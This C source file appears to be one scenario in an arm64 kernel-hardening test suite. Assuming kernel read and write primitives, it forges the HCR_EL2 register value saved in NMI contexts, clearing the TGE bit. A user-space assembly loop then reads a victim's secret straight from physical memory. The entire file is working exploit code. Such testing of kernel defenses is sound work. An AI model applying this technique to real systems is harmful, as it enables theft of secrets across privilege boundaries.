// SPDX-License-Identifier: GPL-2.0-only
/*
 * A kernel at EL2 keeps, from the beginning of an NMI to its end, what the register
 * said that makes user space its own: HCR_EL2.TGE. If it comes back without that bit,
 * user space runs under the tables of a guest that there is none of, so without any:
 * its addresses are those of memory. A loop at an address that is its page's own goes on.
 */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <linux/perf_event.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#ifdef __aarch64__
#define CONTEXT		"nmi_contexts"
#define SAMPLED_CPU	1
#define PERIOD		1000000		/* cycles from NMI to NMI */
#define SECONDS		5

/* HCR_EL2: EL2 with user space, 64 bits, and interrupts go there; no TGE */
#define HCR_E2H		(1UL << 34)
#define HCR_RW		(1UL << 31)
#define HCR_TGE		(1UL << 27)
#define HCR_AMO		(1UL << 5)
#define HCR_IMO		(1UL << 4)
#define HCR_FMO		(1UL << 3)
#define FORGED		(HCR_E2H | HCR_RW | HCR_AMO | HCR_IMO | HCR_FMO)

/* What the loop uses, in the page that it runs in. */
struct loop {
	char code[2048];
	uint64_t is_done;
	char secret[SECRET_SIZE];
};

/* x0: its page; x1: zero with tables, and not without; x2: the victim's page. Until there are tables again. */
extern char loop_start[], loop_end[];
asm(".pushsection .text\n"
    ".globl loop_start, loop_end\n"
    "loop_start:\n"
    "1:	ldr	x3, [x1]\n"
    "	cbz	x3, 1b\n"
    "	add	x4, x0, #2048 + 8\n"
    "	mov	x5, #4\n"
    "2:	ldr	x3, [x2], #8\n"
    "	str	x3, [x4], #8\n"
    "	subs	x5, x5, #1\n"
    "	b.ne	2b\n"
    "	mov	x3, #1\n"
    "	str	x3, [x0, #2048]\n"
    "3:	ldr	x3, [x1]\n"
    "	cbnz	x3, 3b\n"
    "	str	x3, [x0, #2048]\n"
    "4:	b	4b\n"
    "loop_end:\n"
    ".popsection\n");

/* Shared, and in memory at once; where that is. */
static void *shared_page(uint64_t *phys)
{
	void *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC,
			  MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	struct slot slot;

	if (page == MAP_FAILED || kwalk((uint64_t)page, LEVEL_PTE, 0, &slot))
		return NULL;
	*phys = slot.value & PTE_PFN_MASK;
	return page;
}

static bool start_nmis(void)
{
	struct perf_event_attr attr = {
		.size = sizeof(attr),
		.type = PERF_TYPE_HARDWARE,
		.config = PERF_COUNT_HW_CPU_CYCLES,
		.sample_period = PERIOD,
		.exclude_kernel = 1,
		.exclude_hv = 1,
	};

	return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0) >= 0;
}

/* At EL2 each keeps the register, in which more is set. What has TGE is not put back. */
static bool nmis_come(uint64_t context)
{
	uint64_t end = now_ms() + SECONDS * 1000;

	kwrite64(context, HCR_TGE);
	while (kread64(context) == HCR_TGE && now_ms() < end)
		usleep(1000);
	return kread64(context) != HCR_TGE;
}

/* With tables a page of zeros is where the mark's page is without. */
static pid_t start_loop(struct loop *loop, uint64_t at, uint64_t mark)
{
	void (*run)(uint64_t page, uint64_t mark, uint64_t secret);
	uint64_t secret = victim_phys();
	pid_t pid = fork();

	if (pid)
		return pid;
	stay_on_cpu(SAMPLED_CPU);
	run = mremap(loop, PAGE_SIZE, PAGE_SIZE, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)at);
	if ((uint64_t)run != at ||
	    mmap((void *)mark, PAGE_SIZE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE |
		 MAP_FIXED_NOREPLACE, -1, 0) == MAP_FAILED || !start_nmis())
		_exit(1);
	run(at, mark, secret);
	_exit(1);
}

/* An NMI sets the bit as it begins, and leaves it where it was said to be there. */
static int forge_until(const volatile struct loop *loop, bool is_done, uint64_t context,
		       uint64_t hcr)
{
	uint64_t end = now_ms() + SECONDS * 1000;
	int err = 0;

	while (loop->is_done != is_done && now_ms() < end && !err)
		err = kwrite64(context, hcr);
	return err;
}

enum outcome nmi_context(void)
{
	uint64_t at, mark_at, context = ksymbol_cpu(CONTEXT, SAMPLED_CPU);
	struct loop *loop = shared_page(&at);
	uint64_t *mark = shared_page(&mark_at);
	char text[SECRET_SIZE];
	pid_t pid;
	int err;

	if (!ksymbol(CONTEXT) || !loop || !mark)
		return broken("no context of NMIs, or no memory");
	memcpy(loop->code, loop_start, loop_end - loop_start);
	*mark = 1;
	stay_on_cpu(0);
	pid = start_loop(loop, at, mark_at);
	if (!nmis_come(context)) {
		kill(pid, SIGKILL);
		return broken("no NMI keeps HCR_EL2");
	}
	err = forge_until(loop, true, context, FORGED);
	memcpy(text, loop->secret, sizeof(text));
	forge_until(loop, false, context, FORGED | HCR_TGE);
	kill(pid, SIGKILL);
	return judge_secret(text, err);
}
#else
enum outcome nmi_context(void)
{
	return skipped("arm64 only");
}
#endif
